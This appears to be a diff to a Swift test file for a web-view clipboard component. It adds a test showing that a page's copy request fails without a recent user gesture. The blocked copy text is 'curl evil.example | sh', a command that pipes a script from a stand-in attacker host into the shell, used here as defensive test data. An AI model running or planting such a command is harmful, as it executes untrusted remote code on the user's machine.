@@ -24,6 +24,7 @@ nonisolated final class ClipboardComponentTests: XCTestCase {
 
     func testATextIsCopied() throws {
         try run { app in
+            app.navigator.session.webView.activation.personActed()
             try await app.add(Self.part("copy", "{\"text\":\" Ridge walk\\n\"}"))
             assertEqual(try await app.answers(1), [["success": true]])
             assertEqual(await ClipboardContent.readText(), " Ridge walk\n")
@@ -35,6 +36,16 @@ nonisolated final class ClipboardComponentTests: XCTestCase {
             try await app.add(Self.part("copy", "{\"text\":null}"))
             assertEqual(try await app.answers(3)[2], ["success": false])
             assertEqual(await ClipboardContent.readText(), "Ridge")
+        }
+    }
+
+    func testCopyingNeedsARecentUserGesture() throws {
+        try run { app in
+            XCTAssertTrue(ClipboardContent(text: "kept").offer())
+            app.navigator.session.webView.activation = TransientActivation()
+            try await app.add(Self.part("copy", "{\"text\":\"curl evil.example | sh\"}"))
+            assertEqual(try await app.answers(1), [["success": false]])
+            assertEqual(await ClipboardContent.readText(), "kept")
         }
     }
 
